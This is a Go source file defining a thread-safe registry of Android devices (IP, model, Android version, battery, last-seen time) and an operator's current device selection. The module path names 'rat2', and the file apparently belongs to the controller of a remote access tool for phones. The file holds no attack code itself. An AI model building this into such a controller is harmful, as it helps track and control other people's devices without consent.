// Package registry owns the authoritative map of known devices and the
// current device selection.
package registry

import (
	"sync"
	"time"

	"github.com/MRSt3Ss/rat2/internal/models"
)

// Registry tracks every device that has ever reported an event, plus the
// single device currently selected by the operator. Devices are never
// removed; a device that stops reporting stays registered with its last
// known state.
type Registry struct {
	mu       sync.RWMutex
	devices  map[string]models.Device
	selected string
}

// New creates an empty Registry with no selection.
func New() *Registry {
	return &Registry{
		devices: make(map[string]models.Device),
	}
}

// Upsert merges the non-nil fields of update into the device record,
// creating it if absent. The record's last-seen timestamp is set to now
// and the device is marked connected. Returns the post-merge snapshot
// and whether the device was newly registered.
func (r *Registry) Upsert(id string, update models.DeviceUpdate) (models.Device, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()

	device, ok := r.devices[id]
	created := !ok
	if created {
		device = models.Device{ID: id}
	}

	if update.IP != nil {
		device.IP = *update.IP
	}
	if update.Model != nil {
		device.Model = *update.Model
	}
	if update.Manufacturer != nil {
		device.Manufacturer = *update.Manufacturer
	}
	if update.AndroidVersion != nil {
		device.AndroidVersion = *update.AndroidVersion
	}
	if update.Battery != nil {
		device.Battery = *update.Battery
	}

	device.LastSeen = time.Now()
	device.Connected = true

	r.devices[id] = device
	return device, created
}

// Get returns a snapshot of the device record.
func (r *Registry) Get(id string) (models.Device, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()

	device, ok := r.devices[id]
	return device, ok
}

// List returns snapshots of every registered device. Ordering is not
// guaranteed; callers must not rely on it.
func (r *Registry) List() []models.Device {
	r.mu.RLock()
	defer r.mu.RUnlock()

	devices := make([]models.Device, 0, len(r.devices))
	for _, device := range r.devices {
		devices = append(devices, device)
	}
	return devices
}

// Select sets the current selection to id and returns the selected
// device's snapshot. Fails with ErrDeviceNotFound when the id is not
// registered, leaving the previous selection unchanged.
func (r *Registry) Select(id string) (models.Device, error) {
	r.mu.Lock()
	defer r.mu.Unlock()

	device, ok := r.devices[id]
	if !ok {
		return models.Device{}, models.ErrDeviceNotFound
	}

	r.selected = id
	return device, nil
}

// Selected returns the currently selected device id, or false when no
// selection has been made.
func (r *Registry) Selected() (string, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()

	return r.selected, r.selected != ""
}
